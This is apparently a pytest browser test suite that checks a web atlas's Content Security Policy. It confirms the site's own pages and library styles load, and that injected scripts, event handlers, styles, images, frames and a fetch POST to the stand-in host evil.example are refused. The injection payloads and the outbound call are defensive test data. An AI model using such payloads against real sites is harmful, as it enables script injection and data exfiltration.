"""The policy of our pages in a real browser: it stops nothing of ours on any chapter, and all that isn't ours.

The watch of every other browser test (conftest.py) hears what the policy refuses too.
"""

from __future__ import annotations

import base64
from hashlib import sha256

import pytest

from callbacks.brought_styles import BROUGHT, EMPTY
from data.words import Lang
from geo.chapters import chapters
from tests.browser.painted import painted

CHAPTERS = tuple(chapters())
WRITTEN_IN = """(html) => { document.body.insertAdjacentHTML("beforeend", html); }"""
ADDED = """([tag, text]) => {
  const made = document.createElement(tag);
  made.textContent = text;
  document.body.append(made);
}"""
STYLES = "() => [...document.querySelectorAll('style:not(#atlas-styles)')].map((style) => style.textContent)"

pytestmark = pytest.mark.browser


@pytest.mark.parametrize("lang", Lang)
def test_the_policy_stops_nothing_of_ours_on_any_chapter(context, open_page, lang):
    """That no refusal is told is asserted by the watch at the end of the test."""
    page = open_page(f"/{lang}/")
    for chapter in CHAPTERS:
        page.goto(f"/{lang}/{chapter}?table=1")
        painted(page)
        assert page.evaluate("document.styleSheets.length") >= len(BROUGHT), "libraries' styles are missing"
        assert page.locator(".strip-bar").first.evaluate("bar => getComputedStyle(bar).getPropertyValue('--part')")


def test_an_embedded_view_and_the_small_pages_run_under_the_same_policy(context, open_page, watch):
    watch.excused = "Failed to load resource"  # the pages of what isn't there
    open_page("/embed/en/?chapter=storm")
    for path in ("/desk/ar/sign-in", "/api/ar/", "/s/1e05498", "/en/sheet.png?paper=a9", "/jobs/0/wait"):
        page = context.new_page()
        page.goto(path)
        assert page.locator("h1").count() == 1
        page.close()


def test_the_styles_that_libraries_bring_are_those_of_the_list(open_page):
    """After an update of Dash or dash-leaflet: put the hashes told here into callbacks/brought_styles.py."""
    page = open_page("/en/migrants?layers=offices,ports")
    page.wait_for_function(f"document.querySelectorAll('style').length >= {len(BROUGHT)}")  # ours too, but none EMPTY
    digests = (sha256(style.encode()).digest() for style in page.evaluate(STYLES))
    assert {f"sha256-{base64.b64encode(digest).decode()}" for digest in digests} == set(BROUGHT) - {EMPTY}


@pytest.mark.parametrize(("add", "what", "refused"), [
    (ADDED, ["script", "window.stolen = 1"], "script-src-elem refused inline"),
    (WRITTEN_IN, "<details open ontoggle='window.stolen = 1'></details>", "script-src-attr refused inline"),
    (ADDED, ["style", "body { background: url(https://evil.example/x) }"], "style-src-elem refused inline"),
    (WRITTEN_IN, "<p style='color: red'>x</p>", "style-src-attr refused inline"),
    (WRITTEN_IN, "<img src='https://evil.example/x.png'>", "img-src refused https://evil.example"),
    (WRITTEN_IN, "<iframe src='https://evil.example/'></iframe>", "frame-src refused https://evil.example"),
], ids=["script", "handler", "styles", "style", "picture", "frame"])
def test_what_somebody_smuggles_in_is_refused(open_page, watch, add, what, refused):
    watch.excused = "policy: |Content Security Policy|ERR_BLOCKED_BY_CSP"
    page = open_page("/en/?chapter=overview")
    told: list[str] = []
    page.on("console", lambda message: told.append(message.text))
    page.evaluate(add, what)
    page.wait_for_timeout(300)
    assert any(refused in line for line in told), told
    assert page.evaluate("window.stolen") is None
    watch.faults = [fault for fault in watch.faults if "evil.example" not in fault]


def test_no_script_reaches_another_host(open_page, watch):
    watch.excused = "policy: connect-src refused https://evil.example|Content Security Policy|Failed to fetch"
    page = open_page("/en/")
    asked = "fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused')"
    assert page.evaluate(asked) == "refused"
    watch.faults = [fault for fault in watch.faults if "evil.example" not in fault]
